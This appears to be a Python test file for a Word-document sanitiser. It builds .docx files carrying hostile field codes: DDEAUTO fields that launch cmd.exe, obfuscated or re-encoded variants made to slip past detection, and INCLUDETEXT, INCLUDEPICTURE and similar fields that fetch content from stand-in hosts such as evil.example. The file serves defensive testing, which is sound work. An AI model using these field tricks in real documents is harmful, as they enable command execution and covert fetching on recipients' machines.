"""Fields of Word that run or fetch something."""

from random import Random

from ita_core.evidence import inspect as refusals
from tests import files
from tests.attacks.attack import OF, WORD, attack
from tests.attacks.links import ODD


@attack("fields", refusals.CommandField, WORD)
def a_dde_field(_content: bytes, random: Random) -> bytes:
    code = random.choice(
        [" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe ", "DDE excel a b", ' "DDEAUTO" cmd', "ddeauto cmd "]
    )
    places = sorted(random.randrange(1, len(code)) for _number in range(random.randrange(4)))
    return files.with_field(*(code[a:b] for a, b in zip([0, *places], [*places, len(code)], strict=True)))


@attack("fields", refusals.CommandField, WORD)
def a_field_whose_name_is_computed(content: bytes, random: Random) -> bytes:
    character = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    inner = " ".join(str(ord(letter)) for letter in "DDEAUTO")
    field = (
        f"<w:p>{character.format('begin')}{'<w:r><w:instrText> </w:instrText></w:r>' * random.randrange(3)}"
        f"{character.format('begin')}<w:r><w:instrText>QUOTE {inner}</w:instrText></w:r>{character.format('end')}"
        f"<w:r><w:instrText>c:\\\\cmd.exe</w:instrText></w:r>{character.format('end')}</w:p><w:sectPr"
    )
    return files.changed(content, "word/document.xml", "<w:sectPr", field)


@attack("fields", refusals.CommandField, WORD)
def a_dde_field_in_another_coding(content: bytes, _random: Random) -> bytes:
    made = files.parts(files.with_field("DDE", "AUTO cmd"))
    whole = made["word/document.xml"].decode().replace("UTF-8", "UTF-16", 1)
    return files.packed({**made, "word/document.xml": whole.encode("utf-16")})


@attack("fields", refusals.CommandField, WORD)
def a_simple_dde_field_in_a_header(content: bytes, _random: Random) -> bytes:
    header = f'<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:p><w:fldSimple w:instr="DDEAUTO cmd"/></w:p></w:hdr>'  # noqa: E501, F541
    return files.added(content, "word/header9.xml", header.encode(), OF[WORD] + ".header+xml")


@attack("fields", refusals.LinkedContent, WORD)
def a_field_that_fetches(_content: bytes, random: Random) -> bytes:
    return files.with_field(random.choice([
        'INCLUDETEXT "\\\\\\\\evil\\\\a.docx"', 'INCLUDEPICTURE "http://evil.example/a.png" \\* MERGEFORMAT',
        "INCLUDEPICTURE \\\\\\\\evil\\\\a.png", 'INCLUDEPICTURE \\d "http://evil.example/a.png"',
        'DATABASE \\d "http://evil.example/a"', "INCLUDE http://evil.example/a.docx", "RD http://evil.example/a.docx",
        "LINK Excel.Sheet.12 a b", "IMPORT http://evil.example/a.png",
    ]))  # fmt: skip


@attack("fields", refusals.OddLink, WORD)
def a_field_whose_link_acts(_content: bytes, random: Random) -> bytes:
    place = random.choice([place for place in ODD if "&" not in place])
    return files.with_field(
        random.choice(['HYPERLINK "{}"', 'HYPERLINK \\t "_blank" "{}"', 'HYPERLINK \\n "{}" \\o "a"']).format(place)
    )


# Nothing between the name and what follows it.
CLOSE = ('INCLUDEPICTURE"http://evil.example/a.png"', 'INCLUDETEXT"//evil/a.docx"', 'INCLUDEPICTURE\\d"//evil/a.png"',
         'LINK"Excel.Sheet.12" "a"')  # fmt: skip


@attack("fields", refusals.LinkedContent, WORD)
def a_field_without_a_blank(content: bytes, random: Random) -> bytes:
    return files.with_field(random.choice(CLOSE))


@attack("fields", refusals.CommandField, WORD)
def a_dde_field_without_a_blank(content: bytes, random: Random) -> bytes:
    return files.with_field(random.choice(['DDEAUTO"cmd" "/c calc"', "DDE\u201ccmd\u201d"]))
